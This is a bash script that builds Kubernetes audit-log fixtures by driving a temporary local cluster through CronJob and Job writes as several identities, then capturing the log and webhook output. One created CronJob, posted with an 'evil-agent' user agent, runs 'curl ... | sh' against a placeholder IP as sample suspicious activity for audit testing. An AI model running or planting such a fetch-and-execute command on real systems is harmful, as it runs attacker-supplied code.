#!/usr/bin/env bash
# Regenerates tests/fixtures/audit/ from a real kube-apiserver: starts etcd,
# kube-apiserver and kube-controller-manager (only the ClusterRole aggregation
# controller, so the built-in `edit` role has its rules; its leader-election
# lease updates are part of the noise) from
# $KUBEBUILDER_ASSETS in a temporary directory, performs the same CronJob/Job
# actions as several identities, and keeps what the API server wrote.
#
#   run 1: the shipped policy config/audit/policy.yaml (written by this
#          script), log backend -> requestresponse.jsonl, and webhook backend
#          (batch mode, to a local python3 HTTPS server) -> webhook-batch-N.json
#          plus webhook-requests.json (the headers of every POST).
#   run 2: a verbose policy (Metadata for everything, RequestResponse for
#          batch cronjobs/jobs except in namespace meta-only, RequestReceived
#          stage kept) plus unrelated noise -> mixed.jsonl.
#
# Nothing is normalised: the files are what the API server wrote (mixed.jsonl
# is only cut to the lines from the first action on; see START below).
# Needs: etcd, kube-apiserver, kube-controller-manager, kubectl, openssl,
# curl, python3. Usage: e2e/capture-audit.sh   (from anywhere)
set -euo pipefail

ASSETS=${KUBEBUILDER_ASSETS:-/usr/local/kubebuilder/bin}
ROOT=$(cd "$(dirname "$0")/.." && pwd)
OUT=$ROOT/tests/fixtures/audit
KUBECTL=$ASSETS/kubectl
[ -x "$KUBECTL" ] || KUBECTL=$(command -v kubectl)
for b in etcd kube-apiserver kube-controller-manager; do
    [ -x "$ASSETS/$b" ] || { echo "no $b in $ASSETS (set KUBEBUILDER_ASSETS)" >&2; exit 2; }
done
for b in openssl curl python3; do
    command -v $b >/dev/null || { echo "$b is needed" >&2; exit 2; }
done

TMP=$(mktemp -d /tmp/cronwarden-audit-capture.XXXXXX)
PIDS=()
cleanup() {
    local p
    for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
    sleep 1
    for p in "${PIDS[@]}"; do kill -KILL "$p" 2>/dev/null || true; done
    if [ -n "${KEEP_TMP:-}" ]; then echo "kept $TMP" >&2; else rm -rf "$TMP"; fi
}
trap cleanup EXIT
log() { echo "== $*" >&2; }

free_port() {
    python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'
}

# --- policies ---------------------------------------------------------------
mkdir -p "$ROOT/config/audit" "$OUT"
cat >"$ROOT/config/audit/policy.yaml" <<'EOF'
# The audit policy cronwarden needs (kube-apiserver --audit-policy-file):
# every write to a CronJob or Job, with the request and response objects, and
# nothing else. Reads are not logged: a list of all Jobs at RequestResponse
# level is large and tells cronwarden nothing. If the cluster already has a
# policy, add the first rule to it, above any rule that would match batch
# resources first (the first matching rule wins).
apiVersion: audit.k8s.io/v1
kind: Policy
omitStages:
  - RequestReceived
rules:
  - level: RequestResponse
    verbs: [create, update, patch, delete, deletecollection]
    resources:
      - group: batch
        resources: [cronjobs, cronjobs/status, jobs, jobs/status]
  - level: None
EOF

cat >"$TMP/verbose-policy.yaml" <<'EOF'
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: Metadata
    namespaces: [meta-only]
    resources:
      - group: batch
        resources: [cronjobs, cronjobs/status, jobs, jobs/status]
  - level: RequestResponse
    resources:
      - group: batch
        resources: [cronjobs, cronjobs/status, jobs, jobs/status]
  - level: Metadata
EOF

# --- keys and certificates -------------------------------------------------------
PKI=$TMP/pki
mkdir -p "$PKI"
openssl genrsa -out "$PKI/sa.key" 2048 2>/dev/null
# The webhook's CA, its serving certificate (127.0.0.1) and kube-apiserver's
# client certificate for it.
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=capture-audit-ca" \
    -keyout "$PKI/ca.key" -out "$PKI/ca.crt" 2>/dev/null
openssl req -newkey rsa:2048 -nodes -subj "/CN=cronwarden-audit-webhook" \
    -keyout "$PKI/server.key" -out "$PKI/server.csr" 2>/dev/null
printf 'subjectAltName=IP:127.0.0.1,DNS:localhost\nextendedKeyUsage=serverAuth\n' >"$PKI/server.ext"
openssl x509 -req -in "$PKI/server.csr" -CA "$PKI/ca.crt" -CAkey "$PKI/ca.key" \
    -CAcreateserial -days 2 -extfile "$PKI/server.ext" -out "$PKI/server.crt" 2>/dev/null
openssl req -newkey rsa:2048 -nodes -subj "/CN=kube-apiserver-audit" \
    -keyout "$PKI/client.key" -out "$PKI/client.csr" 2>/dev/null
printf 'extendedKeyUsage=clientAuth\n' >"$PKI/client.ext"
openssl x509 -req -in "$PKI/client.csr" -CA "$PKI/ca.crt" -CAkey "$PKI/ca.key" \
    -CAcreateserial -days 2 -extfile "$PKI/client.ext" -out "$PKI/client.crt" 2>/dev/null

ADMIN_TOKEN=capture-admin-token
printf '%s,admin,admin,"system:masters"\n' "$ADMIN_TOKEN" >"$TMP/tokens.csv"
printf 'apiVersion: v1\nkind: Config\n' >"$TMP/empty.kubeconfig"

# --- the webhook receiver -------------------------------------------------------
cat >"$TMP/webhook.py" <<'EOF'
import http.server, json, ssl, sys, threading
port, outdir, pki = int(sys.argv[1]), sys.argv[2], sys.argv[3]
lock = threading.Lock()
count = [0]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        peer = self.connection.getpeercert()
        with lock:
            count[0] += 1
            n = count[0]
        with open(f"{outdir}/{n:03d}.json", "wb") as f:
            f.write(body)
        with open(f"{outdir}/{n:03d}.meta.json", "w") as f:
            json.dump({"method": self.command, "path": self.path,
                       "http_version": self.request_version,
                       "headers": [[k, v] for k, v in self.headers.items()],
                       "client_cert_subject": peer.get("subject") if peer else None,
                       "body_bytes": len(body)}, f, indent=1)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *a):
        pass
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(f"{pki}/server.crt", f"{pki}/server.key")
ctx.load_verify_locations(f"{pki}/ca.crt")
ctx.verify_mode = ssl.CERT_OPTIONAL
srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), H)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
srv.serve_forever()
EOF

# --- cluster start/stop ------------------------------------------------------------
API_PID= ETCD_PID= KCM_PID= API_PORT=
start_cluster() { # DIR POLICY AUDIT_LOG [WEBHOOK_KUBECONFIG]
    local d=$1 policy=$2 auditlog=$3 webhook=${4:-}
    mkdir -p "$d"
    local etcd_port; etcd_port=$(free_port)
    API_PORT=$(free_port)
    "$ASSETS/etcd" --data-dir "$d/etcd" \
        --listen-client-urls "http://127.0.0.1:$etcd_port" \
        --advertise-client-urls "http://127.0.0.1:$etcd_port" \
        --listen-peer-urls http://127.0.0.1:0 --unsafe-no-fsync >"$d/etcd.log" 2>&1 &
    ETCD_PID=$!; PIDS+=("$ETCD_PID")
    local args=(
        "--etcd-servers=http://127.0.0.1:$etcd_port"
        "--secure-port=$API_PORT" --bind-address=127.0.0.1 --advertise-address=127.0.0.1
        "--cert-dir=$d/certs"
        "--service-account-key-file=$PKI/sa.key"
        "--service-account-signing-key-file=$PKI/sa.key"
        --service-account-issuer=https://kubernetes.default.svc
        "--token-auth-file=$TMP/tokens.csv"
        --authorization-mode=RBAC --service-cluster-ip-range=10.0.0.0/24
        --allow-privileged=true
        "--audit-policy-file=$policy"
        "--audit-log-path=$auditlog" --audit-log-format=json --audit-log-mode=blocking
    )
    if [ -n "$webhook" ]; then
        args+=("--audit-webhook-config-file=$webhook" --audit-webhook-mode=batch
            --audit-webhook-batch-max-wait=1s)
    fi
    "$ASSETS/kube-apiserver" "${args[@]}" >"$d/kube-apiserver.log" 2>&1 &
    API_PID=$!; PIDS+=("$API_PID")
    cat >"$d/admin.kubeconfig" <<EOF
apiVersion: v1
kind: Config
clusters:
- name: capture
  cluster: {server: "https://127.0.0.1:$API_PORT", insecure-skip-tls-verify: true}
users:
- name: admin
  user: {token: $ADMIN_TOKEN}
contexts:
- name: capture
  context: {cluster: capture, user: admin}
current-context: capture
EOF
    export KUBECONFIG=$d/admin.kubeconfig
    local i
    for i in $(seq 1 360); do
        "$KUBECTL" get --raw /readyz >/dev/null 2>&1 && break
        kill -0 "$API_PID" 2>/dev/null || { tail -20 "$d/kube-apiserver.log" >&2; exit 1; }
        sleep 0.25
    done
    "$KUBECTL" get --raw /readyz >/dev/null
    "$ASSETS/kube-controller-manager" "--kubeconfig=$d/admin.kubeconfig" \
        --controllers=clusterrole-aggregation-controller \
        --bind-address=127.0.0.1 --secure-port=0 >"$d/kcm.log" 2>&1 &
    KCM_PID=$!; PIDS+=("$KCM_PID")
}

stop_cluster() {
    local p
    for p in "$KCM_PID" "$API_PID" "$ETCD_PID"; do
        kill -TERM "$p" 2>/dev/null || true
        wait "$p" 2>/dev/null || true
    done
}

# --- the actions ---------------------------------------------------------------------
k() { "$KUBECTL" "$@"; }
# kubectl as a bearer token only: no user from any kubeconfig.
k_token() { local t=$1; shift; "$KUBECTL" --kubeconfig="$TMP/empty.kubeconfig" \
    --server="https://127.0.0.1:$API_PORT" --insecure-skip-tls-verify=true --token="$t" "$@"; }
expect_fail() { # PATTERN CMD... : the command must fail with PATTERN in its output
    local pat=$1; shift
    local out
    if out=$("$@" 2>&1); then echo "expected a failure: ${*:3}" >&2; exit 1; fi
    grep -qi -- "$pat" <<<"$out" || { echo "expected '$pat' from: ${*:3}; got: $out" >&2; exit 1; }
    log "failed as expected: $out"
}

setup_identities() {
    k create namespace team-a
    k create serviceaccount deployer -n team-a
    k create serviceaccount nobody -n team-a
    k create rolebinding deployer-edit -n team-a --clusterrole=edit --serviceaccount=team-a:deployer
    k create rolebinding devs-edit -n team-a --clusterrole=edit --user=alice --group=devs
    local i
    for i in $(seq 1 120); do
        [ "$(k auth can-i create cronjobs.batch -n team-a --as=system:serviceaccount:team-a:deployer 2>/dev/null)" = yes ] && break
        sleep 0.5
    done
    [ "$(k auth can-i create cronjobs.batch -n team-a --as=alice --as-group=devs)" = yes ]
    DEPLOYER=$(k create token deployer -n team-a --duration=1h)
    NOBODY=$(k create token nobody -n team-a --duration=1h)
}

batch_actions() {
    log "deployer (ServiceAccount token) creates, edits and applies cronjob sa-made"
    k_token "$DEPLOYER" create cronjob sa-made -n team-a --image=busybox:1.36 \
        --schedule='*/5 * * * *' -- sh -c 'echo hi'
    k_token "$DEPLOYER" set image cronjob/sa-made -n team-a sa-made=busybox:1.37
    k_token "$DEPLOYER" patch cronjob sa-made -n team-a --type=merge \
        -p '{"spec":{"schedule":"*/10 * * * *"}}'
    k_token "$DEPLOYER" apply --server-side --force-conflicts -f - <<'EOF'
apiVersion: batch/v1
kind: CronJob
metadata:
  name: sa-made
  namespace: team-a
spec:
  schedule: "*/15 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: sa-made
              image: busybox:1.37
              command: [sh, -c, echo applied]
EOF
    # a PUT (verb update) of the whole object
    k_token "$DEPLOYER" get cronjob sa-made -n team-a -o json \
        | sed 's#"\*/15 \* \* \* \*"#"*/20 * * * *"#' \
        | k_token "$DEPLOYER" replace -f -
    k_token "$DEPLOYER" create job manual-1 -n team-a --from=cronjob/sa-made
    k_token "$DEPLOYER" delete job manual-1 -n team-a

    log "admin impersonates alice (group devs)"
    k --as=alice --as-group=devs create cronjob impersonated -n team-a --image=busybox:1.36 \
        --schedule='0 * * * *' -- sh -c 'date'

    log "curl with its own user agent, as the deployer"
    local code
    code=$(curl -sk -o "$TMP/curl-out.json" -w '%{http_code}' -A 'evil-agent/6.6.6' \
        -H "Authorization: Bearer $DEPLOYER" -H 'Content-Type: application/json' -X POST \
        "https://127.0.0.1:$API_PORT/apis/batch/v1/namespaces/team-a/cronjobs" \
        --data-binary @- <<'EOF'
{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"curl-made","namespace":"team-a"},
 "spec":{"schedule":"*/1 * * * *","jobTemplate":{"spec":{"template":{"spec":{
   "restartPolicy":"Never","containers":[{"name":"x","image":"curlimages/curl:8.10.1",
   "command":["sh","-c","curl -s http://203.0.113.9/x | sh"]}]}}}}}}
EOF
    )
    [ "$code" = 201 ] || { echo "curl create: HTTP $code" >&2; cat "$TMP/curl-out.json" >&2; exit 1; }

    log "failed requests: 403, 422, 409"
    expect_fail forbidden k_token "$NOBODY" create cronjob forbidden-1 -n team-a \
        --image=busybox:1.36 --schedule='*/5 * * * *' -- true
    expect_fail invalid k_token "$DEPLOYER" create cronjob bad-schedule -n team-a \
        --image=busybox:1.36 --schedule='not a schedule' -- true
    expect_fail "already exists" k_token "$DEPLOYER" create cronjob sa-made -n team-a \
        --image=busybox:1.36 --schedule='*/5 * * * *' -- true

    log "admin writes the status subresource"
    k patch cronjob sa-made -n team-a --subresource=status --type=merge \
        -p '{"status":{"lastScheduleTime":"2025-01-01T00:00:00Z"}}'

    log "deployer deletes cronjob curl-made"
    k_token "$DEPLOYER" delete cronjob curl-made -n team-a
}

noise_actions() {
    log "noise: configmaps, secrets, pods, namespaces; batch reads; meta-only namespace"
    k create configmap app-config -n team-a --from-literal=greeting=hello
    k get configmap app-config -n team-a -o name
    k get configmaps -n team-a -o name
    k_token "$DEPLOYER" get configmaps -n team-a -o name
    k create secret generic db-password -n team-a --from-literal=password=s3cr3t
    k get secret db-password -n team-a -o name
    k get pods -A
    k get namespaces
    k_token "$DEPLOYER" get cronjobs -n team-a
    k_token "$DEPLOYER" get cronjob sa-made -n team-a -o name
    timeout 2 "$KUBECTL" --kubeconfig="$TMP/empty.kubeconfig" --server="https://127.0.0.1:$API_PORT" \
        --insecure-skip-tls-verify=true --token="$DEPLOYER" get jobs -n team-a --watch || true
    k create namespace meta-only
    k create cronjob meta-made -n meta-only --image=busybox:1.36 --schedule='@hourly' -- true
    k patch cronjob meta-made -n meta-only --type=merge -p '{"spec":{"suspend":true}}'
    k create job meta-job -n meta-only --from=cronjob/meta-made
    k delete cronjob meta-made -n meta-only
}

# --- run 1: shipped policy, log + webhook ----------------------------------------------------
log "run 1: shipped policy, log and webhook backends"
WEBHOOK_PORT=$(free_port)
mkdir -p "$TMP/webhook"
python3 "$TMP/webhook.py" "$WEBHOOK_PORT" "$TMP/webhook" "$PKI" >"$TMP/webhook.log" 2>&1 &
WEBHOOK_PID=$!; PIDS+=("$WEBHOOK_PID")
cat >"$TMP/webhook.kubeconfig" <<EOF
apiVersion: v1
kind: Config
clusters:
- name: cronwarden
  cluster:
    server: https://127.0.0.1:$WEBHOOK_PORT/audit
    certificate-authority: $PKI/ca.crt
users:
- name: kube-apiserver
  user:
    client-certificate: $PKI/client.crt
    client-key: $PKI/client.key
    token: capture-webhook-token
contexts:
- name: cronwarden
  context: {cluster: cronwarden, user: kube-apiserver}
current-context: cronwarden
EOF
start_cluster "$TMP/run1" "$ROOT/config/audit/policy.yaml" "$TMP/run1/audit.log" "$TMP/webhook.kubeconfig"
setup_identities
batch_actions
sleep 3 # one more batch-max-wait
stop_cluster
kill -TERM "$WEBHOOK_PID"; wait "$WEBHOOK_PID" 2>/dev/null || true

rm -f "$OUT"/*.jsonl "$OUT"/webhook-*.json "$OUT"/README.md "$OUT"/mixed-policy.yaml
cat "$TMP/run1/audit.log" >"$OUT/requestresponse.jsonl"

n=0
for f in "$TMP"/webhook/[0-9][0-9][0-9].json; do
    n=$((n + 1))
    cat "$f" >"$OUT/webhook-batch-$n.json"
done
[ "$n" -gt 0 ] || { echo "the webhook received nothing" >&2; exit 1; }
python3 - "$TMP/webhook" "$OUT/webhook-requests.json" <<'EOF'
import glob, json, sys
out = []
for i, m in enumerate(sorted(glob.glob(sys.argv[1] + "/*.meta.json")), 1):
    d = json.load(open(m))
    d["file"] = f"webhook-batch-{i}.json"
    out.append(d)
json.dump(out, open(sys.argv[2], "w"), indent=1)
open(sys.argv[2], "a").write("\n")
EOF

# --- run 2: verbose policy, log backend, with noise ------------------------------------------
log "run 2: verbose policy, log backend"
start_cluster "$TMP/run2" "$TMP/verbose-policy.yaml" "$TMP/run2/audit.log"
setup_identities
# Keep what follows the identities' setup: the API server's bootstrap and the
# RBAC setup (hundreds of lines) only make the file larger.
START=$(($(wc -l <"$TMP/run2/audit.log") + 1))
batch_actions
noise_actions
sleep 1
stop_cluster
tail -n +"$START" "$TMP/run2/audit.log" >"$OUT/mixed.jsonl"

cp "$TMP/verbose-policy.yaml" "$OUT/mixed-policy.yaml"
python3 - "$OUT" "$("$ASSETS/kube-apiserver" --version)" <<'EOF'
# README.md: how the files were made, and every line that matters, read back
# from the files themselves.
import glob, json, os, sys
from urllib.parse import urlparse, parse_qs
out, version = sys.argv[1], sys.argv[2]

def cell(v):
    return "-" if v in (None, "") else str(v).replace("|", "\\|")

def summary(e):
    o = e.get("objectRef") or {}
    res = "/".join(x for x in [o.get("apiGroup"), o.get("resource"), o.get("subresource")] if x) or "-"
    nsname = f"{o.get('namespace') or '-'}/{o.get('name') or '-'}" if o else "-"
    imp = e.get("impersonatedUser")
    imp = f"{imp.get('username')} {imp.get('groups', [])}" if imp else None
    q = parse_qs(urlparse(e.get("requestURI", "")).query)
    def obj(x):
        if x is None:
            return None
        k = x.get("kind", "(no kind: patch body)")
        m = x.get("metadata") or {}
        extra = "".join(f" {a}={m[b]}" for a, b in [("rv", "resourceVersion"), ("gen", "generation")] if b in m)
        return k + extra
    return [e.get("stage"), e.get("level"), e.get("verb"), res, nsname,
            e["user"].get("username"), imp, e.get("userAgent"),
            (e.get("responseStatus") or {}).get("code"),
            (q.get("fieldManager") or [None])[0],
            obj(e.get("requestObject")), obj(e.get("responseObject"))]

HEAD = ["stage", "level", "verb", "resource", "namespace/name", "user",
        "impersonatedUser", "userAgent", "code", "fieldManager", "requestObject", "responseObject"]

def table(first, rows):
    t = ["| " + " | ".join([first] + HEAD) + " |", "|" + "---|" * (len(HEAD) + 1)]
    t += ["| " + " | ".join(cell(c) for c in r) + " |" for r in rows]
    return "\n".join(t)

def lines(name):
    with open(os.path.join(out, name)) as f:
        return [(i, json.loads(l)) for i, l in enumerate(f, 1) if l.strip()]

rr = lines("requestresponse.jsonl")
mixed = lines("mixed.jsonl")
hooks = sorted(glob.glob(os.path.join(out, "webhook-batch-*.json")),
               key=lambda p: int(p.rsplit("-", 1)[1].split(".")[0]))
reqs = json.load(open(os.path.join(out, "webhook-requests.json")))
is_batch = lambda e: (e.get("objectRef") or {}).get("apiGroup") == "batch"

doc = [f"""# Audit fixtures

Real output of `{version}`, captured by `e2e/capture-audit.sh`, which
starts etcd, kube-apiserver and kube-controller-manager (ClusterRole
aggregation only) from `$KUBEBUILDER_ASSETS` in a temporary directory and
performs the same actions twice. Running it again rewrites every file here,
this README included (the tables below are read back from the files; auditIDs,
uids, timestamps and tokens change on each run, and so may line numbers in
`mixed.jsonl`). Nothing is normalised.

| file | what |
|---|---|
| `requestresponse.jsonl` | log backend (`--audit-log-format=json --audit-log-mode=blocking`) with the shipped policy `config/audit/policy.yaml`: writes to batch cronjobs/jobs at `RequestResponse`, stage `RequestReceived` omitted, nothing else |
| `webhook-batch-N.json` | the same run's webhook backend (`--audit-webhook-mode=batch --audit-webhook-batch-max-wait=1s`): each file is one POST body, verbatim — an `audit.k8s.io/v1` `EventList`; together they hold the same events (same auditIDs, same order) as `requestresponse.jsonl` |
| `webhook-requests.json` | method, path, headers and client certificate subject of each of those POSTs |
| `mixed.jsonl` | log backend with `mixed-policy.yaml` (Metadata for everything; RequestResponse for batch cronjobs/jobs, any verb, except in namespace `meta-only` where they are Metadata; stage `RequestReceived` kept), the same actions plus noise; cut to the lines from the first action on (the API server's start-up and the RBAC setup are left out) |
| `mixed-policy.yaml` | that verbose policy |

Identities: `admin` (static token, group `system:masters`);
`system:serviceaccount:team-a:deployer` (bound to ClusterRole `edit` in
`team-a`, token from `kubectl create token`); `system:serviceaccount:team-a:nobody`
(no rights); `alice` / group `devs` (RBAC `edit` in `team-a`), only through
`admin` impersonating (`kubectl --as=alice --as-group=devs`). Every client is
kubectl with its own user agent, except one `curl -A 'evil-agent/6.6.6'`.

Actions, in order: deployer `kubectl create cronjob sa-made`, `set image`,
`patch --type=merge` (schedule), `apply --server-side --force-conflicts`,
`replace` (PUT, schedule), `create job manual-1 --from=cronjob/sa-made`,
`delete job manual-1`; admin as alice creates `impersonated`; curl as deployer
POSTs `curl-made`; nobody creates `forbidden-1` (403); deployer creates
`bad-schedule` (422) and `sa-made` again (409); admin patches `sa-made`'s status
subresource; deployer deletes `curl-made`. In `mixed.jsonl` also: configmaps,
secrets, pods, namespaces, kubectl's discovery, batch get/list/watch, and
CronJob `meta-made` / Job `meta-job` in `meta-only`.

What the API server writes (kube-apiserver {version.split()[-1]}; true of every run):
- `user` is who authenticated; with impersonation it is the impersonator
  (`admin`) and `impersonatedUser` is `{{username, groups}}` of the
  impersonated identity, `system:authenticated` added to the groups.
  ServiceAccounts have `user.uid` and `user.extra["authentication.kubernetes.io/credential-id"]`.
- `objectRef.name` is absent on a create's `RequestReceived` line and on a
  create refused by authorization (403: authorization runs before the body is
  read, so there is no `requestObject` either). At `Metadata` level
  `objectRef` is complete (resource, namespace, name, apiGroup, apiVersion)
  but there is no `requestObject`/`responseObject`.
- `requestObject` of a `patch` is the patch document as sent: strategic merge
  (`kubectl set image`, with `$setElementOrder/...`) and merge patches have no
  `kind`; a server-side apply (`fieldManager=kubectl`, `force=true`) is the
  applied manifest (with `apiVersion`/`kind`, no `status`). Of `create` and
  `update` it is the whole object; of `delete` a `DeleteOptions` whose
  `apiVersion` is `meta.k8s.io/__internal`.
- `responseObject` of a successful create/update/patch (status subresource
  too) is the whole object as stored, with `metadata.resourceVersion`,
  `generation` and `managedFields`; a status write leaves `generation`
  unchanged. Deletes and failures (403/404/409/422) answer a `Status`;
  `kubectl get` lists answer a `Table` (meta.k8s.io/v1), not a list of objects.
- A status write is `verb: patch` with `objectRef.subresource: status`.
- A watch writes `RequestReceived`, `ResponseStarted` and, when it ends,
  `ResponseComplete`, none with objects.
- In the webhook's `EventList`, `items[]` are the log backend's events
  without `kind`/`apiVersion`; every other field is the same.

Columns: `resource` is apiGroup/resource/subresource; `requestObject` and
`responseObject` give `kind` (or "no kind: patch body") and
`metadata.resourceVersion`/`generation` when present; `fieldManager` is the
query parameter in `requestURI`.
"""]

doc.append("## Webhook requests\n")
doc.append("| file | method and path | Content-Type | Content-Encoding | Authorization | User-Agent | client certificate | events |")
doc.append("|---|---|---|---|---|---|---|---|")
for r, p in zip(reqs, hooks):
    h = {k.lower(): v for k, v in r["headers"]}
    auth = h.get("authorization")
    auth = (auth.split(" ")[0] + " (the `token:` of the webhook kubeconfig)") if auth else "not sent"
    cn = ",".join("=".join(kv) for rdn in (r.get("client_cert_subject") or []) for kv in rdn) or "none"
    n = len(json.load(open(p))["items"])
    doc.append(f"| `{r['file']}` | {r['method']} `{r['path']}` | `{cell(h.get('content-type'))}` | {cell(h.get('content-encoding'))} | {auth} | `{cell(h.get('user-agent'))}` | {cn} | {n} |")
doc.append("\nAll headers, in order, are in `webhook-requests.json`. The webhook kubeconfig had both a client certificate and a `token:`; kube-apiserver sent both.\n")

doc.append("## requestresponse.jsonl\n")
doc.append(table("line", [[i] + summary(e) for i, e in rr]))
doc.append("\n## webhook-batch-N.json\n\n`items[i]`, 0-based. The items have no `kind`/`apiVersion` of their own (the log lines have `kind: Event`).\n")
doc.append(table("file[item]", [[f"{os.path.basename(p)}[{j}]"] + summary(e)
                                for p in hooks for j, e in enumerate(json.load(open(p))["items"])]))
doc.append(f"\n## mixed.jsonl\n\n{len(mixed)} lines. Batch (`objectRef.apiGroup: batch`) lines:\n")
doc.append(table("line", [[i] + summary(e) for i, e in mixed if is_batch(e)]))
doc.append("\nEvery other line (noise; no objectRef means a non-resource URL such as discovery, shown as its requestURI):\n")
doc.append("| line | stage | level | verb | resource or URI | namespace/name | user | code |")
doc.append("|---|---|---|---|---|---|---|---|")
for i, e in mixed:
    if is_batch(e):
        continue
    s = summary(e)
    res = s[3] if e.get("objectRef") else "`" + e.get("requestURI", "") + "`"
    doc.append(f"| {i} | {s[0]} | {s[1]} | {s[2]} | {cell(res)} | {cell(s[4])} | {cell(s[5])} | {cell(s[8])} |")
open(os.path.join(out, "README.md"), "w").write("\n".join(doc) + "\n")
EOF
ls -l "$OUT" >&2
for f in "$OUT"/*; do
    [ "$(wc -c <"$f")" -le 307200 ] || { echo "$f is over 300 KB" >&2; exit 1; }
done
log "done"
